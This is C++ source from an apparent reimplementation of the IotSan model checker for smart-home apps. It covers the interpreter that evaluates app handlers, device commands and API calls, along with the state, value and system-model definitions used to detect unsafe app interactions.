        auto& state_map = state_.app_state[app_index_];
        Value old;
        auto it = state_map.find(target.text);
        if (it != state_map.end()) old = it->second;
        Value result = combine(old);
        switch (result.kind()) {
          case Value::Kind::kNull:
          case Value::Kind::kBool:
          case Value::Kind::kNumber:
          case Value::Kind::kString:
            break;
          default:
            Fail(expr.line, "state entries must be scalars");
        }
        state_map[target.text] = result;
        return result;
      }
      // location.mode = "Away".
      if (target.text == "mode" && target.a->kind == ExprKind::kIdent &&
          target.a->text == "location") {
        if (!value.is_string()) Fail(expr.line, "mode must be a string");
        SetLocationMode(value.AsString(), expr.line);
        return value;
      }
      // Map field assignment.
      Value recv = Eval(*target.a);
      if (recv.is_map()) {
        recv.MutableMap()[target.text] = combine(Value::Null());
        return value;
      }
      Fail(expr.line, "unsupported assignment target");
    }

    if (target.kind == ExprKind::kIndex) {
      Value recv = Eval(*target.a);
      Value index = Eval(*target.b);
      if (recv.is_list() && index.is_number()) {
        auto i = static_cast<std::size_t>(index.AsNumber());
        if (i < recv.MutableList().size()) {
          recv.MutableList()[i] = value;
        }
        return value;
      }
      if (recv.is_map()) {
        recv.MutableMap()[index.ToDisplayString()] = value;
        return value;
      }
    }
    Fail(expr.line, "unsupported assignment target");
  }

  Value EvalMember(const Expr& expr) {
    // state.foo read.
    if (expr.a->kind == ExprKind::kIdent && expr.a->text == "state") {
      const auto& state_map = state_.app_state[app_index_];
      auto it = state_map.find(expr.text);
      return it != state_map.end() ? it->second : Value::Null();
    }
    // location.*
    if (expr.a->kind == ExprKind::kIdent && expr.a->text == "location") {
      if (expr.text == "mode") {
        return Value::String(model_.modes()[state_.mode]);
      }
      if (expr.text == "modes") {
        ValueList modes;
        for (const std::string& m : model_.modes()) {
          modes.push_back(Value::String(m));
        }
        return Value::List(std::move(modes));
      }
      if (expr.text == "name") return Value::String("Home");
      return Value::Null();
    }

    Value recv = Eval(*expr.a);
    if (recv.is_null()) {
      if (expr.safe_navigation) return Value::Null();
      Fail(expr.line, "member '" + expr.text + "' on null");
    }
    return MemberOf(recv, expr.text, expr.line);
  }

  Value MemberOf(const Value& recv, const std::string& name, int line) {
    if (recv.is_device()) {
      return DeviceMember(recv.DeviceIndex(), name, line);
    }
    if (recv.is_map()) {
      auto it = recv.AsMap().find(name);
      return it != recv.AsMap().end() ? it->second : Value::Null();
    }
    if (recv.is_list()) {
      if (name == "size") {
        return Value::Number(static_cast<double>(recv.AsList().size()));
      }
      if (name == "first") {
        return recv.AsList().empty() ? Value::Null() : recv.AsList().front();
      }
      if (name == "last") {
        return recv.AsList().empty() ? Value::Null() : recv.AsList().back();
      }
      // Groovy spread: devices.currentSwitch.
      ValueList mapped;
      for (const Value& item : recv.AsList()) {
        mapped.push_back(MemberOf(item, name, line));
      }
      return Value::List(std::move(mapped));
    }
    if (recv.is_string()) {
      if (name == "length" || name == "size") {
        return Value::Number(static_cast<double>(recv.AsString().size()));
      }
    }
    return Value::Null();
  }

  Value DeviceMember(int device_index, const std::string& name, int line) {
    const devices::Device& device = model_.devices()[device_index];
    if (name == "id" || name == "label" || name == "displayName" ||
        name == "name") {
      return Value::String(device.id());
    }
    if (strings::StartsWith(name, "current") && name.size() > 7) {
      std::string attr_name = name.substr(7);
      attr_name[0] = static_cast<char>(
          std::tolower(static_cast<unsigned char>(attr_name[0])));
      return ReadAttribute(device_index, attr_name, line);
    }
    Fail(line, "unknown device member '" + name + "'");
  }

  Value ReadAttribute(int device_index, const std::string& attr_name,
                      int line) {
    const devices::Device& device = model_.devices()[device_index];
    const int attr_index = device.AttributeIndex(attr_name);
    if (attr_index < 0) {
      Fail(line, "device '" + device.id() + "' has no attribute '" +
                     attr_name + "'");
    }
    const devices::AttributeSpec& attr = *device.attributes()[attr_index];
    const int value = state_.devices[device_index].values[attr_index];
    if (attr.kind == devices::AttributeKind::kNumeric) {
      return Value::Number(attr.NumericAt(value));
    }
    return Value::String(attr.ValueName(value));
  }

  // ---- Calls ---------------------------------------------------------------

  Value EvalCall(const Expr& expr) {
    if (!expr.a) return EvalFreeCall(expr);

    // log.debug(...) and friends: ignore, but evaluate args for effects.
    if (expr.a->kind == ExprKind::kIdent && expr.a->text == "log") {
      for (const dsl::ExprPtr& arg : expr.items) Eval(*arg);
      return Value::Null();
    }
    // Math.xyz(...).
    if (expr.a->kind == ExprKind::kIdent && expr.a->text == "Math") {
      return EvalMathCall(expr);
    }

    Value recv = Eval(*expr.a);
    if (recv.is_null()) {
      if (expr.safe_navigation) return Value::Null();
      Fail(expr.line, "method '" + expr.text + "' on null");
    }
    return EvalMethodCall(recv, expr);
  }

  Value EvalMathCall(const Expr& expr) {
    ValueList args;
    for (const dsl::ExprPtr& arg : expr.items) args.push_back(Eval(*arg));
    auto num = [&](std::size_t i) -> double {
      if (i >= args.size() || !args[i].is_number()) {
        Fail(expr.line, "Math." + expr.text + " needs numeric arguments");
      }
      return args[i].AsNumber();
    };
    if (expr.text == "abs") return Value::Number(std::abs(num(0)));
    if (expr.text == "max") return Value::Number(std::max(num(0), num(1)));
    if (expr.text == "min") return Value::Number(std::min(num(0), num(1)));
    if (expr.text == "round") return Value::Number(std::round(num(0)));
    if (expr.text == "floor") return Value::Number(std::floor(num(0)));
    if (expr.text == "ceil") return Value::Number(std::ceil(num(0)));
    Fail(expr.line, "unknown Math function '" + expr.text + "'");
  }

  Value CallClosure(const Expr& closure, const ValueList& args) {
    scopes_.emplace_back();
    if (closure.params.empty()) {
      scopes_.back()["it"] = args.empty() ? Value::Null() : args[0];
    } else {
      for (std::size_t i = 0; i < closure.params.size(); ++i) {
        scopes_.back()[closure.params[i]] =
            i < args.size() ? args[i] : Value::Null();
      }
    }
    Value result;
    try {
      result = ExecBody(closure.body);
    } catch (const ReturnSignal& ret) {
      result = ret.value;
    }
    scopes_.pop_back();
    return result;
  }

  Value EvalFreeCall(const Expr& expr) {
    const std::string& name = expr.text;

    // Lifecycle/registration APIs are modeled statically; at runtime they
    // are inert (the Model Generator already registered callbacks, §8).
    if (name == "subscribe" || name == "unschedule" || name == "pause" ||
        name == "initialize" || name == "updated") {
      for (const dsl::ExprPtr& arg : expr.items) {
        if (arg->kind != ExprKind::kIdent) Eval(*arg);
      }
      return Value::Null();
    }
    if (name == "unsubscribe") {
      log_.api_calls.push_back({ApiCallRecord::Kind::kUnsubscribe,
                                app_index_, app_.config.label, false,
                                expr.line});
      Trace(expr.line, "unsubscribe()");
      return Value::Null();
    }
    if (name == "runIn" || name == "runOnce") {
      if (expr.items.size() >= 2) {
        RegisterTimer(HandlerName(*expr.items[1]), expr.line);
      }
      return Value::Null();
    }
    if (name == "schedule") {
      return Value::Null();  // recurring schedules fire via timer ticks
    }
    if (strings::StartsWith(name, "runEvery")) {
      return Value::Null();
    }
    if (name == "setLocationMode") {
      if (expr.items.empty()) Fail(expr.line, "setLocationMode needs a mode");
      Value mode = Eval(*expr.items[0]);
      if (!mode.is_string()) Fail(expr.line, "mode must be a string");
      SetLocationMode(mode.AsString(), expr.line);
      return Value::Null();
    }
    if (name == "sendLocationEvent") {
      for (const dsl::NamedArg& arg : expr.named) {
        if (arg.name == "value") {
          Value mode = Eval(*arg.value);
          if (mode.is_string()) SetLocationMode(mode.AsString(), expr.line);
        }
      }
      return Value::Null();
    }
    if (name == "sendEvent" || name == "createFakeEvent") {
      EmitFakeEvent(expr);
      return Value::Null();
    }
    if (name == "sendSms" || name == "sendSmsMessage") {
      ApiCallRecord record;
      record.kind = ApiCallRecord::Kind::kSms;
      record.app = app_index_;
      record.line = expr.line;
      if (!expr.items.empty()) {
        Value to = Eval(*expr.items[0]);
        record.detail = to.ToDisplayString();
        record.recipient_mismatch =
            record.detail != model_.deployment().contact_phone;
      }
      if (expr.items.size() > 1) Eval(*expr.items[1]);
      if (!record.recipient_mismatch) log_.user_notified = true;
      log_.api_calls.push_back(std::move(record));
      Trace(expr.line, "sendSms(...)");
      return Value::Null();
    }
    if (name == "sendPush" || name == "sendPushMessage" ||
        name == "sendNotification" || name == "sendNotificationEvent" ||
        name == "sendNotificationToContacts") {
      for (const dsl::ExprPtr& arg : expr.items) Eval(*arg);
      log_.api_calls.push_back({ApiCallRecord::Kind::kPush, app_index_,
                                "push", false, expr.line});
      log_.user_notified = true;
      Trace(expr.line, "sendPush(...)");
      return Value::Null();
    }
    if (name == "httpPost" || name == "httpGet" || name == "httpPostJson") {
      std::string detail;
      if (!expr.items.empty()) detail = Eval(*expr.items[0]).ToDisplayString();
      log_.api_calls.push_back({ApiCallRecord::Kind::kHttp, app_index_,
                                detail, false, expr.line});
      Trace(expr.line, name + "(...)");
      return Value::Null();
    }
    if (name == "getAllDevices" || name == "getChildDevices" ||
        name == "findAllDevices" || name == "discoverDevices") {
      // Dynamic-discovery extension: hand the app every installed device.
      if (!model_.options().dynamic_discovery) {
        Fail(expr.line, "dynamic device discovery is disabled (enable the "
                        "extension to check this app)");
      }
      ValueList all;
      for (std::size_t d = 0; d < model_.devices().size(); ++d) {
        all.push_back(Value::Device(static_cast<int>(d)));
      }
      return Value::List(std::move(all));
    }
    if (name == "now") return Value::Number(0);
    if (name == "timeOfDayIsBetween") {
      // Wall-clock windows are abstracted away: the checker enumerates
      // event permutations regardless of clock time (paper §8 models time
      // as a monotonic counter; guards on it are kept permissive so no
      // behaviour is missed).
      for (const dsl::ExprPtr& arg : expr.items) Eval(*arg);
      return Value::Bool(true);
    }
    if (name == "getSunriseAndSunset") {
      ValueMap result;
      result["sunrise"] = Value::Number(6 * 3600);
      result["sunset"] = Value::Number(18 * 3600);
      return Value::Map(std::move(result));
    }
    if (name == "parseJson") {
      for (const dsl::ExprPtr& arg : expr.items) Eval(*arg);
      return Value::Map({});
    }

    // User-defined method.
    if (const dsl::MethodDecl* method =
            app_.analysis.app.FindMethod(name)) {
      ValueList args;
      for (const dsl::ExprPtr& arg : expr.items) args.push_back(Eval(*arg));
      return CallMethod(*method, args);
    }
    Fail(expr.line, "unknown function '" + name + "'");
  }

  std::string HandlerName(const Expr& arg) {
    if (arg.kind == ExprKind::kIdent || arg.kind == ExprKind::kStringLit) {
      return arg.text;
    }
    return "";
  }

  void RegisterTimer(const std::string& handler, int line) {
    if (handler.empty()) return;
    for (std::size_t s = 0; s < app_.analysis.schedules.size(); ++s) {
      const ir::ScheduleInfo& schedule = app_.analysis.schedules[s];
      if (schedule.handler != handler || schedule.recurring) continue;
      TimerEntry entry{app_index_, static_cast<int>(s)};
      for (const TimerEntry& pending : state_.timers) {
        if (pending == entry) return;  // SmartThings replaces pending timers
      }
      state_.timers.push_back(entry);
      Trace(line, "runIn -> " + handler);
      return;
    }
  }

  void SetLocationMode(const std::string& mode, int line) {
    const int index = model_.deployment().ModeIndex(mode);
    if (index < 0) {
      Fail(line, "unknown location mode '" + mode + "'");
    }
    if (state_.mode == index) return;
    state_.mode = static_cast<std::int16_t>(index);
    log_.mode_setters.push_back(app_index_);
    devices::Event event;
    event.source = devices::EventSource::kLocationMode;
    event.value = index;
    queue_.push_back(event);
    Trace(line, "location.mode = " + mode);
  }

  void EmitFakeEvent(const Expr& expr) {
    std::string attr_name;
    std::string value_name;
    for (const dsl::NamedArg& arg : expr.named) {
      Value v = Eval(*arg.value);
      if (arg.name == "name") attr_name = v.ToDisplayString();
      if (arg.name == "value") value_name = v.ToDisplayString();
    }
    log_.api_calls.push_back({ApiCallRecord::Kind::kFakeEvent, app_index_,
                              attr_name + "/" + value_name, false,
                              expr.line});
    Trace(expr.line, "sendEvent(name: " + attr_name + ", value: " +
                          value_name + ")");
    if (attr_name.empty()) return;
    // The forged event is delivered to every subscriber of a matching
    // (device, attribute, value) — the spoofing vector of §3: apps
    // downstream cannot tell it from a real sensor reading.
    for (std::size_t d = 0; d < model_.devices().size(); ++d) {
      const devices::Device& device = model_.devices()[d];
      const int attr_index = device.AttributeIndex(attr_name);
      if (attr_index < 0) continue;
      const devices::AttributeSpec& attr = *device.attributes()[attr_index];
      int value_index = attr.IndexOfValue(value_name);
      if (value_index < 0 &&
          attr.kind == devices::AttributeKind::kNumeric &&
          !value_name.empty()) {
        value_index = attr.IndexOfNumeric(std::atoi(value_name.c_str()));
      }
      if (value_index < 0) continue;
      devices::Event event;
      event.source = devices::EventSource::kDevice;
      event.device = static_cast<int>(d);
      event.attribute = attr_index;
      event.value = value_index;
      event.synthetic = true;
      queue_.push_back(event);
      log_.actuations.emplace_back(app_index_, static_cast<int>(d));
    }
  }

  Value EvalMethodCall(const Value& recv, const Expr& expr) {
    const std::string& name = expr.text;

    if (recv.is_device()) {
      return DeviceCall(recv.DeviceIndex(), expr);
    }
    if (recv.is_list()) {
      return ListCall(recv, expr);
    }
    if (recv.is_string()) {
      return StringCall(recv.AsString(), expr);
    }
    if (recv.is_number()) {
      if (name == "toInteger" || name == "intValue" || name == "toLong") {
        return Value::Number(std::floor(recv.AsNumber()));
      }
      if (name == "toDouble" || name == "toFloat" ||
          name == "toBigDecimal") {
        return recv;
      }
      if (name == "toString") {
        return Value::String(recv.ToDisplayString());
      }
    }
    if (recv.is_map()) {
      if (name == "get") {
        Value key = expr.items.empty() ? Value::Null() : Eval(*expr.items[0]);
        auto it = recv.AsMap().find(key.ToDisplayString());
        return it != recv.AsMap().end() ? it->second : Value::Null();
      }
      if (name == "containsKey") {
        Value key = expr.items.empty() ? Value::Null() : Eval(*expr.items[0]);
        return Value::Bool(recv.AsMap().count(key.ToDisplayString()) > 0);
      }
      if (name == "toString") return Value::String(recv.ToDisplayString());
    }
    Fail(expr.line, "unsupported method '" + name + "' on " +
                        recv.ToDisplayString());
  }

  Value DeviceCall(int device_index, const Expr& expr) {
    const std::string& name = expr.text;
    const devices::Device& device = model_.devices()[device_index];

    if (name == "currentValue" || name == "latestValue") {
      if (expr.items.empty()) Fail(expr.line, "currentValue needs an attribute");
      Value attr = Eval(*expr.items[0]);
      return ReadAttribute(device_index, attr.ToDisplayString(), expr.line);
    }
    if (name == "hasCapability") {
      if (expr.items.empty()) return Value::Bool(false);
      Value cap = Eval(*expr.items[0]);
      return Value::Bool(
          device.type().HasCapability(strings::ToLower(cap.ToDisplayString())));
    }
    if (name == "refresh" || name == "poll" || name == "ping" ||
        name == "configure") {
      return Value::Null();
    }

    const devices::CommandSpec* spec = device.type().FindCommand(name);
    if (spec == nullptr) {
      // Under the dynamic-discovery extension apps blanket-command every
      // device they found; devices without the command ignore it (the
      // paper's rejected apps rely on Groovy's dynamic dispatch).
      if (model_.options().dynamic_discovery) {
        for (const dsl::ExprPtr& arg : expr.items) Eval(*arg);
        return Value::Null();
      }
      Fail(expr.line, "device '" + device.id() + "' has no command '" +
                          name + "'");
    }
    ValueList args;
    for (const dsl::ExprPtr& arg : expr.items) args.push_back(Eval(*arg));
    ExecuteCommand(device_index, *spec, args, expr.line);
    return Value::Null();
  }

  void ExecuteCommand(int device_index, const devices::CommandSpec& spec,
                      const ValueList& args, int line) {
    const devices::Device& device = model_.devices()[device_index];
    const int attr_index = device.AttributeIndex(spec.attribute);
    if (attr_index < 0) return;
    const devices::AttributeSpec& attr = *device.attributes()[attr_index];

    int target = -1;
    if (!spec.takes_argument) {
      target = attr.IndexOfValue(spec.value);
    } else if (!args.empty()) {
      if (args[0].is_number()) {
        target = attr.IndexOfNumeric(static_cast<int>(args[0].AsNumber()));
      } else {
        target = attr.IndexOfValue(args[0].ToDisplayString());
      }
    }
    if (target < 0) return;

    CommandRecord record;
    record.app = app_index_;
    record.handler = current_method_ ? current_method_->name : "";
    record.device = device_index;
    record.spec = &spec;
    record.value_index = target;
    record.line = line;

    Trace(line, "ST_Command.evtType = " + spec.name + " -> " + device.id());
    log_.actuations.emplace_back(app_index_, device_index);

    const bool delivered = !failure_.actuator_offline && !failure_.comm_fail;
    record.delivered = delivered;
    if (!delivered) {
      ++log_.failed_deliveries;
      log_.commands.push_back(record);
      return;
    }

    devices::State& dev_state = state_.devices[device_index];
    if (dev_state.values[attr_index] != target) {
      dev_state.values[attr_index] = static_cast<std::int16_t>(target);
      dev_state.physical[attr_index] = static_cast<std::int16_t>(target);
      record.state_changed = true;
      devices::Event event;
      event.source = devices::EventSource::kDevice;
      event.device = device_index;
      event.attribute = attr_index;
      event.value = target;
      queue_.push_back(event);
      Trace(line, device.id() + ".current" + attr.name + " = " +
                      attr.ValueName(target));
    }
    log_.commands.push_back(record);
  }

  Value ListCall(const Value& recv, const Expr& expr) {
    const std::string& name = expr.text;
    const ValueList& items = recv.AsList();

    // Device-list broadcast: switches.on() commands every member.
    if (!items.empty() && items.front().is_device()) {
      bool all_devices = true;
      for (const Value& item : items) {
        all_devices = all_devices && item.is_device();
      }
      if (all_devices) {
        const devices::Device& first =
            model_.devices()[items.front().DeviceIndex()];
        if (first.type().FindCommand(name) != nullptr) {
          ValueList args;
          for (const dsl::ExprPtr& arg : expr.items) {
            args.push_back(Eval(*arg));
          }
          for (const Value& item : items) {
            const devices::Device& device =
                model_.devices()[item.DeviceIndex()];
            if (const devices::CommandSpec* spec =
                    device.type().FindCommand(name)) {
              ExecuteCommand(item.DeviceIndex(), *spec, args, expr.line);
            }
          }
          return Value::Null();
        }
      }
    }

    const Expr* closure = nullptr;
    if (!expr.items.empty() &&
        expr.items.back()->kind == ExprKind::kClosure) {
      closure = expr.items.back().get();
    }
    auto apply = [this, closure](const Value& item) -> Value {
      if (closure == nullptr) return item;
      return CallClosure(*closure, {item});
    };

    if (name == "each") {
      for (const Value& item : items) apply(item);
      return recv;
    }
    if (name == "find") {
      for (const Value& item : items) {
        if (apply(item).Truthy()) return item;
      }
      return Value::Null();
    }
    if (name == "findAll") {
      ValueList out;
      for (const Value& item : items) {
        if (apply(item).Truthy()) out.push_back(item);
      }
      return Value::List(std::move(out));
    }
    if (name == "collect") {
      ValueList out;
      for (const Value& item : items) out.push_back(apply(item));
      return Value::List(std::move(out));
    }
    if (name == "any") {
      for (const Value& item : items) {
        if (apply(item).Truthy()) return Value::Bool(true);
      }
      return Value::Bool(false);
    }
    if (name == "every") {
      for (const Value& item : items) {
        if (!apply(item).Truthy()) return Value::Bool(false);
      }
      return Value::Bool(true);
    }
    if (name == "count") {
      int matched = 0;
      for (const Value& item : items) {
        if (apply(item).Truthy()) ++matched;
      }
      return Value::Number(matched);
    }
    if (name == "first") {
      return items.empty() ? Value::Null() : items.front();
    }
    if (name == "last") {
      return items.empty() ? Value::Null() : items.back();
    }
    if (name == "size") {
      return Value::Number(static_cast<double>(items.size()));
    }
    if (name == "isEmpty") return Value::Bool(items.empty());
    if (name == "contains") {
      Value needle = expr.items.empty() ? Value::Null() : Eval(*expr.items[0]);
      for (const Value& item : items) {
        if (item.Equals(needle)) return Value::Bool(true);
      }
      return Value::Bool(false);
    }
    if (name == "sum") {
      double total = 0;
      for (const Value& item : items) {
        Value v = apply(item);
        if (v.is_number()) total += v.AsNumber();
      }
      return Value::Number(total);
    }
    if (name == "join") {
      std::string sep =
          expr.items.empty() ? "" : Eval(*expr.items[0]).ToDisplayString();
      std::string out;
      for (std::size_t i = 0; i < items.size(); ++i) {
        if (i > 0) out += sep;
        out += items[i].ToDisplayString();
      }
      return Value::String(std::move(out));
    }
    if (name == "unique" || name == "sort" || name == "reverse" ||
        name == "flatten") {
      ValueList out = items;
      if (name == "reverse") std::reverse(out.begin(), out.end());
      if (name == "unique") {
        ValueList deduped;
        for (const Value& item : out) {
          bool seen = false;
          for (const Value& existing : deduped) {
            seen = seen || existing.Equals(item);
          }
          if (!seen) deduped.push_back(item);
        }
        out = std::move(deduped);
      }
      return Value::List(std::move(out));
    }
    Fail(expr.line, "unsupported list method '" + name + "'");
  }

  Value StringCall(const std::string& recv, const Expr& expr) {
    const std::string& name = expr.text;
    auto arg0 = [this, &expr]() -> std::string {
      return expr.items.empty() ? ""
                                : Eval(*expr.items[0]).ToDisplayString();
    };
    if (name == "toInteger" || name == "toLong") {
      return Value::Number(std::atoi(recv.c_str()));
    }
    if (name == "toDouble" || name == "toFloat" || name == "toBigDecimal") {
      return Value::Number(std::atof(recv.c_str()));
    }
    if (name == "toLowerCase") return Value::String(strings::ToLower(recv));
    if (name == "toUpperCase") {
      std::string out = recv;
      for (char& c : out) {
        c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
      }
      return Value::String(std::move(out));
    }
    if (name == "trim") return Value::String(std::string(strings::Trim(recv)));
    if (name == "contains") {
      return Value::Bool(recv.find(arg0()) != std::string::npos);
    }
    if (name == "startsWith") {
      return Value::Bool(strings::StartsWith(recv, arg0()));
    }
    if (name == "endsWith") {
      return Value::Bool(strings::EndsWith(recv, arg0()));
    }
    if (name == "equalsIgnoreCase") {
      return Value::Bool(strings::ToLower(recv) == strings::ToLower(arg0()));
    }
    if (name == "replaceAll") {
      std::string from = arg0();
      std::string to = expr.items.size() > 1
                           ? Eval(*expr.items[1]).ToDisplayString()
                           : "";
      return Value::String(strings::ReplaceAll(recv, from, to));
    }
    if (name == "length" || name == "size") {
      return Value::Number(static_cast<double>(recv.size()));
    }
    if (name == "toString") return Value::String(recv);
    if (name == "isNumber") {
      char* end = nullptr;
      std::strtod(recv.c_str(), &end);
      return Value::Bool(!recv.empty() && end == recv.c_str() + recv.size());
    }
    Fail(expr.line, "unsupported string method '" + name + "'");
  }
};

}  // namespace

Evaluator::Evaluator(const SystemModel& model, SystemState& state,
                     std::deque<devices::Event>& queue, CascadeLog& log,
                     const FailureScenario& failure)
    : model_(model),
      state_(state),
      queue_(queue),
      log_(log),
      failure_(failure) {}

void Evaluator::InvokeHandler(int app, const std::string& method,
                              const devices::Event* event) {
  Interp interp(model_, state_, queue_, log_, failure_, app);
  interp.Invoke(method, event);
}

}  // namespace iotsan::model
