#include "model/runtime.hpp"

namespace iotsan::model {

std::string FailureScenario::Label() const {
  if (!Any()) return "no failure";
  std::string out;
  auto add = [&out](const char* label) {
    if (!out.empty()) out += "+";
    out += label;
  };
  if (sensor_offline) add("sensor offline");
  if (actuator_offline) add("actuator offline");
  if (comm_fail) add("communication failure");
  return out;
}

const std::vector<FailureScenario>& FailureScenario::AllScenarios() {
  static const std::vector<FailureScenario> kAll = {
      FailureScenario{},
      FailureScenario{.sensor_offline = true},
      FailureScenario{.actuator_offline = true},
      FailureScenario{.comm_fail = true},
  };
  return kAll;
}

const std::vector<FailureScenario>& FailureScenario::NoFailure() {
  static const std::vector<FailureScenario> kNone = {FailureScenario{}};
  return kNone;
}

}  // namespace iotsan::model
