// Dynamic values for the SmartScript evaluator.
//
// The model generator executes app event handlers directly over the
// system state (the C++ equivalent of the paper's generated Promela
// code).  SmartScript is dynamically typed, so the evaluator operates on
// this tagged Value.
#pragma once

#include <cstdint>
#include <map>
#include <memory>
#include <string>
#include <vector>

namespace iotsan::dsl {
struct Expr;
}

namespace iotsan::model {

class Value;
using ValueList = std::vector<Value>;
using ValueMap = std::map<std::string, Value>;

class Value {
 public:
  enum class Kind {
    kNull,
    kBool,
    kNumber,
    kString,
    kDevice,   // index into the system's device table
    kList,
    kMap,
    kClosure,  // unevaluated closure AST
  };

  Value() : kind_(Kind::kNull) {}
  static Value Null() { return Value(); }
  static Value Bool(bool b);
  static Value Number(double n);
  static Value String(std::string s);
  static Value Device(int index);
  static Value List(ValueList items);
  static Value Map(ValueMap entries);
  static Value Closure(const dsl::Expr* closure);

  Kind kind() const { return kind_; }
  bool is_null() const { return kind_ == Kind::kNull; }
  bool is_number() const { return kind_ == Kind::kNumber; }
  bool is_string() const { return kind_ == Kind::kString; }
  bool is_device() const { return kind_ == Kind::kDevice; }
  bool is_list() const { return kind_ == Kind::kList; }
  bool is_map() const { return kind_ == Kind::kMap; }

  bool AsBool() const { return bool_; }
  double AsNumber() const { return number_; }
  const std::string& AsString() const { return string_; }
  int DeviceIndex() const { return device_; }
  const ValueList& AsList() const { return *list_; }
  ValueList& MutableList() { return *list_; }
  const ValueMap& AsMap() const { return *map_; }
  ValueMap& MutableMap() { return *map_; }
  const dsl::Expr* closure() const { return closure_; }

  /// Groovy truthiness: null/false/0/""/[]/[:]/ are false, all else true.
  bool Truthy() const;

  /// Groovy == semantics (numeric comparison across int/double; string
  /// equality; "72" == 72 is false here — SmartScript apps compare
  /// like-typed values).
  bool Equals(const Value& other) const;

  /// Debug / message rendering ("on", "72.5", "[a, b]").
  std::string ToDisplayString() const;

  /// Structural equality (same as Equals; enables defaulted comparisons
  /// on aggregates holding Values).
  bool operator==(const Value& other) const { return Equals(other); }

 private:
  Kind kind_;
  bool bool_ = false;
  double number_ = 0;
  std::string string_;
  int device_ = -1;
  std::shared_ptr<ValueList> list_;
  std::shared_ptr<ValueMap> map_;
  const dsl::Expr* closure_ = nullptr;
};

}  // namespace iotsan::model
