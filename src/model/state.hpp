// The model checker's state vector (paper §8).
//
// A SystemState captures everything the generated Promela model would
// hold in global variables: every device's attribute values and
// availability, the location mode, each app's persistent `state` map, and
// pending one-shot timers.  States are snapshotted/restored by the DFS
// and serialized to bytes for hashing (exhaustive or BITSTATE storage).
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <vector>

#include "devices/device.hpp"
#include "model/value.hpp"

namespace iotsan::model {

/// A pending one-shot timer created by runIn()/runOnce().
struct TimerEntry {
  int app = 0;       // owning app index
  int schedule = 0;  // index into the app's schedule list
  bool operator==(const TimerEntry&) const = default;
};

struct SystemState {
  std::vector<devices::State> devices;
  std::int16_t mode = 0;
  /// Per-app persistent `state` map.  Values must be scalars (null, bool,
  /// number, string) — the evaluator enforces this so states hash
  /// deterministically.
  std::vector<std::map<std::string, Value>> app_state;
  std::vector<TimerEntry> timers;

  /// Appends a canonical byte serialization to `out` (for hashing).
  void SerializeTo(std::vector<std::uint8_t>& out) const;

  /// Canonical byte serialization.
  std::vector<std::uint8_t> Serialize() const;

  /// Component serializers for COLLAPSE state compression: each appends
  /// the exact byte run SerializeTo() emits for that component, so
  /// concatenating device 0..n-1, mode, app-state 0..m-1, timers
  /// reproduces the full serialization byte-for-byte.
  void SerializeDeviceTo(int device, std::vector<std::uint8_t>& out) const;
  void SerializeModeTo(std::vector<std::uint8_t>& out) const;
  void SerializeAppStateTo(int app, std::vector<std::uint8_t>& out) const;
  void SerializeTimersTo(std::vector<std::uint8_t>& out) const;

  bool operator==(const SystemState&) const = default;
};

}  // namespace iotsan::model
