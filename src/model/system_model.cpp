#include "model/system_model.hpp"

#include <algorithm>
#include <set>

#include "dsl/type_infer.hpp"
#include "util/error.hpp"

namespace iotsan::model {

SystemModel::SystemModel(config::Deployment deployment,
                         std::vector<ir::AnalyzedApp> analyzed,
                         const ModelOptions& options)
    : deployment_(std::move(deployment)), options_(options) {
  BuildDevices();
  ResolveApps(std::move(analyzed));
  ResolveSubscriptions();
  BuildExternalEvents();
  SelectProperties(props::BuiltinProperties());
}

void SystemModel::BuildDevices() {
  for (const config::DeviceConfig& cfg : deployment_.devices) {
    const devices::DeviceTypeSpec* type =
        devices::DeviceTypeRegistry::Instance().Find(cfg.type);
    if (type == nullptr) {
      throw ConfigError("unknown device type '" + cfg.type + "'");
    }
    devices_.emplace_back(cfg.id, *type, cfg.roles);
  }
}

int SystemModel::DeviceIndex(const std::string& id) const {
  for (std::size_t i = 0; i < devices_.size(); ++i) {
    if (devices_[i].id() == id) return static_cast<int>(i);
  }
  return -1;
}

void SystemModel::ResolveApps(std::vector<ir::AnalyzedApp> analyzed) {
  for (const config::AppConfig& app_cfg : deployment_.apps) {
    // Find (and consume) the analyzed app with this name.
    auto it = std::find_if(analyzed.begin(), analyzed.end(),
                           [&app_cfg](const ir::AnalyzedApp& a) {
                             return a.app.name == app_cfg.app;
                           });
    if (it == analyzed.end()) {
      throw ConfigError("deployment installs app '" + app_cfg.app +
                        "' but no such app source was provided");
    }
    if (it->dynamic_device_discovery && !options_.dynamic_discovery) {
      throw ConfigError(
          "app '" + app_cfg.app +
          "' discovers devices dynamically; IotSan cannot handle such apps "
          "(paper §11) — rejecting (enable the dynamic-discovery extension "
          "to check it)");
    }
    InstalledApp installed;
    // Multiple installs of the same app are allowed: clone the analysis
    // by re-running it on a cloned AST would be wasteful; instead move if
    // unique, otherwise re-analyze from the printed source.  Deployments
    // in this codebase install each app once per group, so moving is the
    // common path.
    installed.analysis = std::move(*it);
    analyzed.erase(it);
    installed.config = app_cfg;
    ResolveBindings(installed);
    for (const ir::Subscription& sub : installed.analysis.subscriptions) {
      if (sub.scope == ir::EventScope::kAppTouch) installed.touchable = true;
    }
    apps_.push_back(std::move(installed));
  }
}

void SystemModel::ResolveBindings(InstalledApp& app) {
  const std::string& label = app.config.label;
  for (const dsl::InputDecl& input : app.analysis.app.inputs) {
    auto bound = app.config.inputs.find(input.name);
    if (bound == app.config.inputs.end()) {
      if (input.required && input.default_value == nullptr) {
        throw ConfigError("app '" + label + "': required input '" +
                          input.name + "' is not configured");
      }
      // Optional/defaulted inputs: bind the declared default or null.
      if (input.default_value != nullptr) {
        const dsl::Expr& dflt = *input.default_value;
        if (dflt.kind == dsl::ExprKind::kNumberLit) {
          app.bindings[input.name] = Value::Number(dflt.number_value);
        } else if (dflt.kind == dsl::ExprKind::kStringLit) {
          app.bindings[input.name] = Value::String(dflt.text);
        } else if (dflt.kind == dsl::ExprKind::kBoolLit) {
          app.bindings[input.name] = Value::Bool(dflt.bool_value);
        } else {
          app.bindings[input.name] = Value::Null();
        }
      } else {
        app.bindings[input.name] = Value::Null();
      }
      continue;
    }

    const config::Binding& binding = bound->second;
    const dsl::Type declared = dsl::InputDeclType(input);
    const bool wants_device =
        declared.is_device() ||
        (declared.is_list() && declared.element().is_device());

    if (wants_device) {
      if (!binding.IsDeviceBinding()) {
        throw ConfigError("app '" + label + "': input '" + input.name +
                          "' needs device(s)");
      }
      const std::string capability = declared.is_list()
                                         ? declared.element().capability()
                                         : declared.capability();
      ValueList devices_list;
